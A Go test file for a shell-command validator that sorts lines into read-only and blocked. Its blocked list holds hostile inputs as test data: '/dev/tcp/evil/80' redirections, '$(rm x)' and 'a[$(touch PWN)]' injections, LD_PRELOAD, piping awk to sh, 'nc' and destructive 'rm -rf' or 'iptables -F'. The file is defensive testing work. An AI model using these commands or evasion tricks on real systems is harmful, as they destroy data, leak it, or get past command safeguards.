@@ -1,0 +1,666 @@
+package readcmd
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestReads(t *testing.T) {
+	for _, line := range strings.Split(strings.TrimSpace(reading), "\n") {
+		line = strings.ReplaceAll(line, "␤", "\n")
+		if v := Line(line, Own); !v.Reads {
+			t.Errorf("%q is held: %s", line, v.Reason)
+		}
+	}
+}
+
+func TestHolds(t *testing.T) {
+	for _, line := range strings.Split(strings.TrimSpace(holding), "\n") {
+		line = strings.ReplaceAll(line, "␤", "\n")
+		if v := Line(line, Own); v.Reads {
+			t.Errorf("%q passes", line)
+		} else if v.Reason == "" {
+			t.Errorf("%q is held without a reason", line)
+		}
+	}
+}
+
+const reading = `ls
+ls -la /tmp
+ls; pwd
+ls && pwd || true
+cd src && ls -la
+cat a.txt | grep -n x | head -5
+grep x *.go
+cat 'a b' 2>/dev/null
+ls 2>&1 | wc -l
+ls &>/dev/null
+ls >/dev/null 2>&1
+cat < in.txt
+wc -l $HOME/x ${f} "${g:-none}" "a $h"
+cat ~/x ~
+ls \␤ -la
+# List the files.␤ls
+echo "$(date +%Y)" $(pwd)
+( cd a; ls )
+{ ls; pwd; }
+if [ -f x ]; then cat x; elif test -d y; then ls y; else echo no; fi
+for f in *.py; do wc -l "$f"; done
+for f in a b␤do␤cat $f␤done
+while read -r line; do echo "$line"; done < list
+! grep -q x y
+time ls
+[ -f a ] && echo y
+[[ -f a ]] && cat a
+[[ -n $x ]] && echo y
+[ "$a" = b ] || echo no
+[ ! -d "$x" ] && echo no
+[ 1 -lt 2 ]
+echo $'a\tb' "a\"b" 'x$(y)' a\ b
+echo $? $1 "$@"
+grep -E "foo$" x
+echo "100%" a:b,c @x +y a=b
+find . -name '*.go' -not -path './x/*' -print0 | xargs -0 grep -l foo
+find . -type f -exec grep -l x {} +
+find src \( -name a -o -name b \) -exec wc -l {} \;
+find . -newermt 2024-01-01 -maxdepth 2
+ls | xargs -I{} wc -l {}
+sed -n 1,20p a
+sed 's/a/b/g' f
+sed -E -e 's|a(b)|\1|' -e '/x/d' f
+sed -n '/start/,/end/p;$p' f
+sed '$!N;s/\n/ /;P;D' f
+sed ':a;N;$!ba;s/\n/,/g' f
+awk '{print $1}' f
+awk -F: '{print $1}' /etc/passwd
+awk -v n=3 'NR==n {printf "%s\n", $0}' f
+awk '$3 > 100 && /foo|bar/ {s += $3/2} END {print s}' f
+awk 'BEGIN {for (i = 1; i < 3; i++) print i}'
+awk 'NR>1 && length($0) > 80' f
+awk '{a[$1]++} END {for (k in a) print k, a[k]}' f
+printf '%s\n' $x *
+printf "%5d %s\n" 3 x 4 "$y"
+timeout 5 ls
+timeout -s KILL -k 2 10s git status
+nice -n 5 du -sh .
+env ls
+env
+command -v go
+bash -lc 'ls | head'
+bash -c "git status && git log -1"
+sort -u -k2 a
+sort ./*.txt
+sort -- *.txt
+uniq -c a
+rg foo src
+rg -n 'foo' --type go -g '*.go'
+git log --oneline -5
+git log --author='x' --since=1.week
+git --no-pager show HEAD:a
+git show HEAD^ HEAD~2 stash@{0}
+git diff --stat main...HEAD -- core
+git branch
+git branch -a
+git branch --list 'a*'
+git branch --contains abc
+git tag -l 'v*'
+git remote -v
+git config --get user.name
+git config user.name
+git stash list
+git stash show -p
+git grep -n foo -- '*.go'
+git rev-parse --abbrev-ref HEAD
+git ls-files -- core
+git blame -L 1,5 a.go
+git reflog
+git reflog show -n 5
+git worktree list
+git shortlog -sn HEAD
+git -P log -1
+git --version
+npm ls --depth=0
+npm --version
+npm outdated
+npm view react version
+pip list --outdated
+pip show x
+go list ./...
+go list -m -json all
+go list -f '{{.Dir}}' ./...
+go version
+go env GOPATH
+go doc fmt.Println
+go vet ./...
+go mod graph
+gofmt -l .
+docker ps -a
+docker logs --tail=5 x
+docker compose ps
+docker image ls
+kubectl get pods -n x -o wide
+kubectl -n x describe pod y
+kubectl logs -f deploy/x --tail=50
+kubectl config current-context
+helm list -A
+terraform output -json
+terraform state list
+gh pr list
+gh pr view 1 --json title
+gh api repos/x/y
+gh run view 5 --log-failed
+aws s3 ls
+aws ec2 describe-instances --region eu-west-1
+aws sts get-caller-identity
+gcloud compute instances list --project=x
+az vm list -o table
+curl -s https://x
+curl -sSL -H 'Accept: application/json' "https://x/y?z=1"
+curl -s -o /dev/null -w '%{http_code}' http://localhost:8080/
+curl -I https://x
+jq . a.json
+jq -r '.a | length' < f
+yq . a.yaml
+tar tf a.tar
+tar -tzvf a.tar.gz
+unzip -l a.zip
+zcat a.gz | head
+zgrep x a.gz
+xxd a | head
+file a
+less a
+tree -L 2
+column -t a
+ps aux
+df -h
+du -sh *
+free -m
+top -b -n 1
+systemctl status x
+journalctl -u x -n 50 --no-pager
+crontab -l
+history
+history 20
+vmstat
+ping -c1 x
+dig +short x
+nslookup x
+host x
+ip addr show
+ip -br a
+ss -tlnp
+lsof -i :8080
+date
+date +%s
+date -u +%FT%TZ
+date -d yesterday +%F
+uname -a
+hostname
+hostname -f
+whoami
+id
+apt list --installed
+dpkg -l
+dpkg -L bash
+brew list
+rpm -qa
+python --version
+python3 -V
+node -v
+java -version
+rustc --version
+gcc --version
+base64 -d a
+od -c a
+read -r x
+ls {a,b}.go
+ls [a-c]*.go x?
+ls src/{a,b}
+bc <<< "1+1"
+/bin/ls /usr/bin/env
+/usr/bin/git status
+openssl x509 -in c.pem -noout -text
+ulimit -a
+sysctl -a
+sysctl kernel.hostname
+alias
+sleep 1
+diff -u a b | head
+stat a
+echo hi`
+
+const holding = `rm -rf x
+mv a b
+frob
+ls; rm x
+ls && rm x
+ls | tee x
+ls > x
+ls >> x
+ls >| x
+ls 2> y
+ls &> log
+ls > /dev/stdout
+ls > /dev/sda
+cat x > /dev/tcp/evil/80
+cat < /dev/tcp/evil/80
+cat < $f
+ls <> x
+exec 3<>/dev/tcp/evil/80
+ls > >(rm x)
+diff <(ls a) <(ls b)
+cat =(ls)
+cat =ls
+ls $(rm x)
+ls "$(rm x)"
+ls $(ls; rm x)
+ls ` + "`pwd`" + `
+ls & rm x
+ls &
+ls␤rm x
+ls *(e:'touch PWN':)
+echo *(e:'touch PWN':)
+ls ?(a)
+ls !(a)
+[[ 'a[$(touch PWN)]' -eq 0 ]] || ls
+test -v 'a[$(touch PWN)]'
+[ -v 'a[$(touch PWN)]' ]
+[[ -v 'a[$(touch PWN)]' ]] || ls
+[ "$x" -eq 0 ]
+[ -n $x ]
+[ a -o -v x ]
+[ -R x ]
+for x in 'a[$(touch PWN)]'; do echo $((x)); done
+for x in a; do ((x)); ls; done
+for x in '$(touch PWN)'; do echo ${x@P}; done
+for x in a; do echo ${!x}; done
+for x in a; do echo ${PATH:x}; done
+for x in a; do echo ${x:$x:1}; done
+for x in a; do echo ${BASH_VERSINFO[x]}; done
+for x in a; do echo $[x]; done
+for PATH in /tmp/evil; do ls; done
+for path in /tmp/evil; do ls; done
+for ((i=0;i<1;i++)); do ls; done
+echo $((1+1))
+echo ${x:=y}
+echo ${x:?y}
+echo ${#x}
+echo ${x//a/b}
+echo ${x%.py}
+echo $x[1]
+echo "$x[1]"
+echo $x:h
+echo ${x}[1]
+echo $-
+echo $!
+echo ${x:-$(rm y)}
+A=1 ls
+PATH=. ls
+PATH=.
+LD_PRELOAD=./x.so ls
+GIT_EXTERNAL_DIFF=x git diff
+a[0]=1 ls
+export A=1
+alias ls='rm x'; ls
+ls() { rm x; }; ls
+function ls { rm x; }; ls
+$x
+"$x" a
+~/ls
+./ls
+/tmp/ls
+r*
+eval ls
+exec ls
+source x
+. x
+builtin kill 1
+sudo ls
+nohup ls
+watch ls
+trap 'rm x' EXIT; ls
+shopt -s extglob
+set -o x
+unset x
+case a in a) rm x;; esac
+select x in a; do ls; done
+coproc ls
+repeat 3 ls
+ls !$
+ls !!
+echo "a!b"
+echo "a!"
+echo ~root ~+
+ls # rm x
+# don't␤ls
+# ls; rm x␤ls
+cat <<EOF␤x␤EOF
+cat <<'EOF'␤x␤EOF
+uniq a b
+uniq a -c
+uniq a <1-5>/dev/null
+uniq a*
+uniq $x
+sort -o a b
+sort -uo a b
+sort -no file a
+sort --output=a b
+sort --outp a b
+sort --compress-program=x a
+sort -k 1 -oa b
+sort $x
+sort "$x"
+sort *
+sort *.txt
+sort -k -- -ofoo
+sort -T /tmp a
+find . -delete
+find . -exec rm {} +
+find . -exec sh -c 'rm {}' \;
+find . -ok rm {} \;
+find . -fprint x
+find . -fls x
+find . -fprintf x y
+find $x
+find "$x" -name y
+find *
+find . -name $x
+find . -files0-from x
+find . -execdir git log \;
+find a b -exec sort {} \;
+xargs rm
+xargs < l rm
+ls | xargs sort
+ls | xargs -I{} sh -c 'cat {}'
+ls | xargs -I% % a
+ls | xargs git log
+sed -i s/a/b/ f
+sed s/a/b/ f -i
+sed -n 1p -i f
+sed 's/a/b/w out' f
+sed -n '1e rm x' f
+sed 's/a/b/e' f
+sed 's/a/b/ge' f
+sed 'w out' f
+sed '1w out' f
+sed 'e' f
+sed '/x/r f2' f
+sed -f x f
+sed -n 1p "$x"
+sed "$x" f
+sed --in-place s/a/b/ f
+sed --expr=w␤ f
+sed 's/[/]/w x;s/]/b/' f
+sed 'a\␤x␤w out' f
+awk 'BEGIN{system("rm x")}'
+awk '{print > "x"}' f
+awk '{print $1 >> "x"}' f
+awk '{print | "sh"}' f
+awk '{"rm x" | getline}' f
+awk '{printf "x" > "/tmp/y"}' f
+awk '{print $1,␤$2 > "x"}' f
+awk -f x f
+awk -i inplace x f
+awk "$x" f
+awk '@load "x"' f
+awk 'a / system("x") / b' f
+awk 'function f() {print}' f
+awk 'if (1) /"/; {print > "x"} /"/' f
+awk '/[]/]/ {x = "/"; print > "y"; z = "/"}' f
+gawk -o x '{print}' f
+printf -v x y
+printf '%d' 'a[$(touch PWN)]'
+printf '%n' x
+printf "%s %d\n" a b
+printf "%s %d\n" $x
+printf "%*d" a 1
+git for-each-ref --format "%(signature)"
+printf "$x"
+read x[0]
+read PATH
+read -p x y
+test a -a b
+timeout 5 rm x
+timeout $x ls
+env rm x
+env A=1 ls
+env -S 'rm x'
+env -i ls
+nice rm x
+bash -c 'rm x'
+bash -c "$x"
+bash x
+bash -ic ls
+bash -c 'cd x && git status'
+sh x
+cd x && git status
+(cd x; git log)
+git -C x status
+git --git-dir=x status
+git --work-tree=x status
+git -c core.pager=x log
+git -c x=y status
+git --exec-path=x log
+git -p log
+git
+git log --output=x
+git log --outp=x
+git log -- --x | tee y
+git diff --ext-diff
+git show --textconv x
+git grep -O x
+git grep --open-files-in-pager=x y
+git log --format=%G? x
+git log $x
+git log "$x"
+git show *
+git log --author -- --output=x
+git shortlog -n --output=x
+git push
+git stash
+git stash pop
+git branch new
+git branch -D x
+git branch -v new
+git branch -l new
+git branch --sort x
+git tag v1
+git tag -ld v1
+git tag -v v1
+git tag -n v1
+git remote add x y
+git remote update
+git config user.name x
+git config --unset user.name
+git config -e
+git config --add x y
+git reflog expire
+git reflog delete x
+git bisect run x
+git bundle create x
+git archive -o x HEAD
+git apply x
+git commit -m x
+git fetch
+git ls-remote ext::sh
+git symbolic-ref HEAD refs/heads/x
+git worktree add x
+git notes add
+git cat-file --textconv x
+npm test
+npm install
+npm run x
+npm audit fix
+npm config set x y
+npx tsc
+yarn list
+pip install x
+pip list --index-url x
+python -m pip list
+python x.py
+python -c x
+python --version x
+go run .
+go build
+go list -toolexec x ./...
+go list -export ./...
+go list -mod=mod ./...
+go env -w X=y
+go vet -vettool=x
+go test ./...
+gofmt -w .
+cargo build
+cargo tree
+docker run x
+docker exec x ls
+docker ps -a; docker rm x
+docker -H x ps
+docker compose up
+docker compose -f x
+kubectl delete pod x
+kubectl apply -f x
+kubectl exec x -- ls
+kubectl get delete --kubeconfig x
+kubectl --kubeconfig x get pods
+kubectl cluster-info dump --output-directory=x
+helm install x
+helm template x
+terraform apply
+terraform show
+gh pr merge 1
+gh pr view 1 --web
+gh api -X DELETE x
+gh api x -f a=b
+gh api graphql
+aws s3 rm x
+aws s3 cp a b
+aws s3api get-object --bucket b --key k out
+aws ec2 terminate-instances
+aws ec2 describe-instances --endpoint-url http://x
+aws lambda invoke out
+aws ec2 describe-instances $x
+gcloud compute ssh list
+gcloud compute instances delete list
+az vm delete show
+curl -X POST http://x
+curl -d x http://y
+curl -o /etc/x http://x
+curl -O http://x
+curl -so x http://y
+curl -T x http://y
+curl -K x
+curl --output x http://y
+curl -w '%output{x}' http://y
+curl -H 'X-HTTP-Method-Override: DELETE' http://x
+curl gopher://x
+curl $x
+curl -c jar http://x
+curl ftp.example.com
+wget http://x
+wget -qO- http://x
+tar xf x
+tar cf x y
+tar tf evil:x
+tar tf x --to-command=y
+tar -tf x -I y
+tar tf $x
+unzip a.zip
+gzip a
+zstd -d a
+tree -o x
+tree -R
+tree -R -H . -L 1
+file -C -m x
+file --compile
+file *
+file -z x
+rg --pre x y
+rg --hostname-bin=x y
+rg -z x
+rg foo $x
+fd -x rm
+ag --pager x y
+less -o x a
+less +!ls a
+date -s 1
+date 01010101
+date $x
+hostname evil
+hostname $x
+xxd a b
+xxd -r a b
+xxd -bc 8 out
+base64 a b
+base64 -o x a
+shuf -o x a
+iconv -o x a
+jobs -x rm
+mount a b
+ping x
+ping -f x
+ip link set x down
+ip addr add 1 dev x
+ip netns exec x ls
+ss -K
+dmesg -C
+sysctl -w a=b
+sysctl a=b
+iptables -F
+ulimit -n 5
+umask 0
+history -c
+history -w x
+crontab -r
+crontab x
+systemctl stop x
+systemctl
+journalctl --vacuum-size=1
+service x status
+apt install x
+dpkg -i x
+rpm -q --eval x
+rpm -e x
+brew install x
+tee x
+dd if=a of=b
+mkdir x
+touch x
+ln -s a b
+link a b
+vim x
+man x
+ed x
+ssh x ls
+nc x 80
+perl -e x
+node -e x
+ruby -e x
+make -n
+terraform state rm x
+ls 'open
+ls "open
+ls \
+echo }
+ls {a
+''
+ls | ''
+time
+ls ||| pwd
+ls ;; pwd
+if ls; then pwd
+for f in a; do ls
+( ls
+ls )
+{ ls
+done
+ls␤)
+uname -S x
+arch -x86_64 rm
+noglob rm x
+- rm x
+env - rm x
+stdbuf -oL rm x
+ls‮x
+[ x -a y ]
+echo $+x ${(e)x} $~x $=x
+ls a#b *#-o | sort a#-o`
